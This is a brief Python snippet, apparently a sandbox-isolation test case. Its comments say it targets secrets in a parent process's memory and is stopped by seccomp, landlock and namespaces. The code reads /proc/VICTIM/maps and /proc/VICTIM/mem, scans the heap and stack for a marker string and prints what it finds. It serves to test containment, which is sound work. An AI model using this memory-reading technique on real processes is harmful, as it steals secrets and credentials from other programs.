# aims: secrets in the memory of the process above
# prize: read
# stopped by: seccomp, landlock, namespaces
with open(f"/proc/{VICTIM}/maps") as maps, open(f"/proc/{VICTIM}/mem", "rb") as memory:
    for line in maps:
        if "[heap]" in line or "[stack]" in line:
            first, last = (int(word, 16) for word in line.split()[0].split("-"))
            memory.seek(first)
            found = memory.read(last - first)
            place = found.find(b"SECRET" + b"-OF-")
            if place >= 0:
                print(found[place : place + 40])
